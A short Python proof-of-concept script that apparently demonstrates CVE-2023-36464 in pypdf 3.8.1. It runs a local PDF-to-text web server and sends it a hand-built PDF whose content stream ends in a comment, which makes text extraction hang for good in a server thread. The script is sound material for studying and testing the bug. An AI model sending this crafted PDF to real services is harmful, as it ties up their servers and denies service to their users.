"""pypdf 3.8.1 (CVE-2023-36464): a comment that ends with the page is read for ever, in a thread of a server that serves on."""

import asyncio
import io
import subprocess
import sys

from aiohttp import web
from pypdf import PdfReader

CLIENTS = """
import socket, sys, threading, time
def page(content):
    parts, places = [b"%PDF-1.4\\n"], []
    def add(text):
        places.append(sum(map(len, parts)))
        parts.append(b"%d 0 obj\\n" % len(places) + text + b"\\nendobj\\n")
    add(b"<</Type/Catalog/Pages 2 0 R>>")
    add(b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    add(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<<>>/Contents 4 0 R>>")
    add(b"<</Length %d>>stream\\n%s\\nendstream" % (len(content), content))
    start = sum(map(len, parts))
    parts.append(b"xref\\n0 5\\n0000000000 65535 f \\n")
    parts.extend(b"%010d 00000 n \\n" % place for place in places)
    parts.append(b"trailer<</Size 5/Root 1 0 R>>\\nstartxref\\n%d\\n%%%%EOF\\n" % start)
    return b"".join(parts)
def send(body, times, pause):
    for _ in range(times):
        with socket.create_connection(("127.0.0.1", int(sys.argv[1]))) as one:
            one.sendall(b"POST /text HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body)
            while one.recv(1000):
                pass
        time.sleep(pause)
good = page(b"BT (hello) Tj ET\\n")
for _ in range(4):
    threading.Thread(target=send, args=(good, 10**9, 0.1)).start()
time.sleep(8)
send(page(b"BT ET %comment"), 1, 0)
"""


def extract(data):
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


async def text(request):
    return web.Response(text=await asyncio.to_thread(extract, await request.read()))


async def main():
    app = web.Application()
    app.router.add_post("/text", text)
    run = web.AppRunner(app)
    await run.setup()
    site = web.TCPSite(run, "127.0.0.1", 0)
    await site.start()
    port = site._server.sockets[0].getsockname()[1]
    subprocess.Popen([sys.executable, "-c", CLIENTS, str(port)])
    await asyncio.Event().wait()


asyncio.run(main())
